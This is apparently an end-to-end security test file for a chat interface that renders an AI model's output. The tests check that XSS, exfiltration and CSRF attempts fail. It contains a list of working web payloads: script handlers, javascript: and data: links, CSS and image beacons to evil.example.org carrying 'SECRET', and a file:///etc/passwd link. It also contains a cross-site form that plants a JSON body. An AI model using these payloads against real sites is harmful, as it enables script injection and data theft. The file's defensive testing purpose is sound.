import { createServer, request } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "@playwright/test";
import { uglyMarkdown } from "#lib/testing/upstream/ugly-markdown.ts";
import { expect, test, watchContext } from "./fixtures.ts";
import { answers, ask, list, open, panel, questions, reload, state } from "./page.ts";

const secret = "https://evil.example.org/?d=SECRET";
const payloads = [
  `![x](${secret})`,
  `![x][ref]\n\n[ref]: ${secret}`,
  `| a |\n|---|\n| ![x](${secret}) |`,
  `<img src="${secret}" onerror="globalThis.wasRun=true">`,
  `<svg onload="globalThis.wasRun=true"><image href="${secret}"/></svg>`,
  `<div style="background:url(${secret})">styled</div>`,
  `<style>@import url("${secret}"); body { background: url(${secret}) }</style>`,
  `<link rel="stylesheet" href="${secret}"><link rel="preload" as="image" href="${secret}">`,
  `<iframe srcdoc="<script>parent.wasRun=true</script>"></iframe>`,
  `<object data="${secret}"></object><embed src="${secret}"><video src="${secret}" poster="${secret}"></video>`,
  `<meta http-equiv="refresh" content="0;url=${secret}">`,
  `<base href="${secret}"><form action="${secret}"><button autofocus onfocus="globalThis.wasRun=true">x</button></form>`,
  `<details open ontoggle="globalThis.wasRun=true">x</details>`,
  `<math><mtext><style><img src=x onerror="globalThis.wasRun=true"></style></mtext></math>`,
  `<script src="${secret}"></script><script>globalThis.wasRun=true</script>`,
  "[a](javascript:globalThis.wasRun=true) [b](JaVaScRiPt:globalThis.wasRun=true) [c](java\tscript:globalThis.wasRun=true)",
  "[d](&#106;avascript:globalThis.wasRun=true) [e](javascript&colon;globalThis.wasRun=true) <javascript:globalThis.wasRun=true>",
  "[f](vbscript:x) [g](data:text/html,<script>globalThis.wasRun=true</script>) [h](blob:x) [i](file:///etc/passwd)",
  `$\\href{javascript:globalThis.wasRun=true}{x}$ $\\includegraphics{${secret}}$ $\\url{javascript:globalThis.wasRun=true}$`,
  `$\\htmlData{onclick=globalThis.wasRun=true}{x}$ $\\style{background:url(${secret})}{x}$`,
  `\`\`\`html\n<script>globalThis.wasRun=true</script><img src="${secret}">\n\`\`\``,
  `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=globalThis.wasRun=true>"]-->B; click A "javascript:globalThis.wasRun=true"\n\`\`\``,
  `[https://bank.example.org](https://evil.example.org/login) and ![/_next/image?url=${encodeURIComponent(secret)}&w=64&q=75](/_next/image?url=x)`,
  "[__proto__](__proto__) [constructor]: x\n\n[constructor]",
];

/** What must never be true of a page that shows a model's words. */
async function expectHarmless(page: Page): Promise<void> {
  const found = await page.evaluate(() => {
    const links = [...document.querySelectorAll<HTMLAnchorElement>("main a[href], aside a[href]")];
    return {
      wasRun: Reflect.get(globalThis, "wasRun") === true,
      elements: document.querySelectorAll(
        ":is(main, aside) :is(img, iframe, object, embed, script, style, link, base, form form, svg image)",
      ).length,
      addresses: links.map((link) => link.protocol).filter((protocol) => !["https:", "http:", "mailto:"].includes(protocol)),
      unguarded: links.filter((link) => link.origin !== location.origin && !/noopener.*noreferrer/.test(link.rel)).length,
      handlers: [...document.querySelectorAll("main *, aside *")].filter((element) =>
        [...element.attributes].some(({ name }) => name.startsWith("on")),
      ).length,
    };
  });
  expect(found).toEqual({ wasRun: false, elements: 0, addresses: [], unguarded: 0, handlers: 0 });
}

test("nothing in a thought or an answer happens: no request leaves, no script runs, not even while it is cut into letters", async ({
  page,
  upstream,
}) => {
  const corpus = payloads.join("\n\n");
  upstream.script("hostile", () => [
    { kind: "thought", text: `**<img src=x onerror="globalThis.wasRun=true">**\n\n${corpus}`, cut: "letters" },
    { kind: "text", text: corpus, cut: "letters" },
    { kind: "finish", reason: "stop", usage: "count" },
  ]);
  upstream.hold();
  await ask(page, "hostile", `<img src="${secret}" onerror="globalThis.wasRun=true"> ![x](${secret})`);
  for (const count of [40, 333, 333, 800, 800, 1500]) {
    upstream.release(count);
    await expectHarmless(page);
  }
  upstream.release();
  await expect(state(page)).toContainText("Done");
  await expect(answers(page)).toContainText("globalThis.wasRun=true");
  await expectHarmless(page);
  await expect(list(page).getByRole("link", { name: /img src/ })).toBeVisible();
  await reload(page);
  await expect(questions(page)).toContainText("<img src=");
  await expectHarmless(page);
});

test("shows where a link really leads when its words say something else", async ({ page, upstream }) => {
  upstream.script("ugly-letters", () => [
    { kind: "text", text: uglyMarkdown, cut: "letters" },
    { kind: "finish", reason: "stop", usage: "count" },
  ]);
  await ask(page, "ugly-letters");
  await expect(state(page)).toContainText("Done");
  const link = answers(page).getByRole("link", { name: "https://bank.example.org" });
  await expect(link).toHaveAttribute("href", "https://evil.example.org/login");
  await expect(link).toHaveAttribute("rel", /noopener noreferrer nofollow/);
  await expect(answers(page)).toContainText("https://bank.example.org (evil.example.org)");
  await expect(answers(page)).toContainText("a remote image (image at tracker.example.org)");
  await expect(answers(page).getByRole("link", { name: "click me" })).toHaveCount(0);
  await expectHarmless(page);
});

test("every page, also a missing one, has a strict policy with a fresh nonce, and obeys it", async ({ page, application }) => {
  const nonces = new Set<string>();
  await ask(page, "think-then-answer");
  await expect(state(page)).toContainText("Done");
  for (const path of ["/", page.url(), "/c/con_0", "/nothing/here", "/"]) {
    const response = await page.goto(path);
    const policy = response?.headers()["content-security-policy"] ?? "";
    expect(policy).toMatch(/script-src 'self' 'nonce-[^']+'(;|$)/);
    for (const rule of ["object-src 'none'", "base-uri 'none'", "frame-ancestors 'none'", "connect-src 'self'"]) {
      expect(policy).toContain(rule);
    }
    expect(policy).not.toContain("unsafe-eval");
    nonces.add(/'nonce-([^']+)'/.exec(policy)?.[1] ?? "");
    expect(response?.headers()).toMatchObject({ "x-content-type-options": "nosniff", "referrer-policy": "no-referrer" });
    const bare = await page.evaluate(() => [...document.scripts].filter((script) => !script.nonce && !script.src).length);
    expect(bare).toBe(0);
  }
  expect(nonces.size).toBe(5);
  expect((await page.request.get(`${application.url}/nothing/here`)).status()).toBe(404);
});

test("is deaf to other hosts and to other sites in the visitor's browser", async ({ browser, application, page }) => {
  const answerTo = (headers: Record<string, string>) =>
    new Promise<number | undefined>((resolve, reject) => {
      const sent = request(`${application.url}/api/conversations`, { headers }, (answer) => {
        answer.resume();
        resolve(answer.statusCode);
      });
      sent.on("error", reject).end();
    });
  expect(await answerTo({})).toBe(200);
  expect(await answerTo({ host: "evil.example.org" })).toBe(403);
  expect(await answerTo({ origin: "https://evil.example.org" })).toBe(403);
  expect(await answerTo({ "sec-fetch-site": "cross-site" })).toBe(403);

  const site = createServer((_incoming, response) => {
    response.writeHead(200, { "content-type": "text/html" });
    response.end(`<!doctype html><title>Elsewhere</title><iframe src="${application.url}/"></iframe>
      <form method="post" enctype="text/plain" action="${application.url}/api/runs">
      <input name='{"clientRequestId":"x","text":"planted","x":"' value='"}'><button>Win</button></form>`);
  });
  await new Promise<void>((resolve) => site.listen(0, "127.0.0.1", resolve));
  const context = await browser.newContext();
  const elsewhere = await context.newPage();
  await elsewhere.goto(`http://localhost:${(site.address() as AddressInfo).port}/`);
  const outcomes = await elsewhere.evaluate(async (url) => {
    const body = JSON.stringify({ clientRequestId: "planted", text: "planted" });
    const tries: RequestInit[] = [
      {},
      { method: "POST", body, headers: { "content-type": "application/json" } },
      { method: "POST", body, mode: "no-cors" },
    ];
    const results: string[] = [];
    for (const init of tries) {
      const path = init.method ? "/api/runs" : "/api/conversations";
      results.push(
        await fetch(url + path, init).then(
          (response) => `${response.type} ${response.status}`,
          () => "refused",
        ),
      );
    }
    return results;
  }, application.url);
  expect(outcomes.filter((outcome) => /20\d/.test(outcome))).toEqual([]);
  const framed = elsewhere.frames()[1];
  expect(await framed?.getByRole("textbox").count()).toBe(0);
  const posted = elsewhere.waitForResponse(/\/api\/runs$/);
  await elsewhere.getByRole("button", { name: "Win" }).click();
  expect((await posted).status()).toBe(403);
  await context.close();
  await new Promise((resolve) => site.close(resolve));

  await open(page);
  await expect(list(page)).toContainText("What you ask is kept here.");
});

test("no key and no word of a provider's error reaches the page", async ({ page, context, application }) => {
  const bodies: string[] = [];
  const complaints = watchContext(context, application.url);
  page.on("response", async (response) => {
    if (/\/api\/|\/c\//.test(response.url())) bodies.push(await response.text().catch(() => ""));
  });
  await ask(page, "refused");
  await expect(state(page)).toContainText("Failed");
  await expect(panel(page)).toContainText("The provider refused this request");
  await reload(page);
  expect(bodies.join("\n")).not.toMatch(/sk-secret-123|a-key/);
  expect(await page.content()).not.toMatch(/sk-secret-123|a-key/);
  expect(complaints).toEqual([]);
});
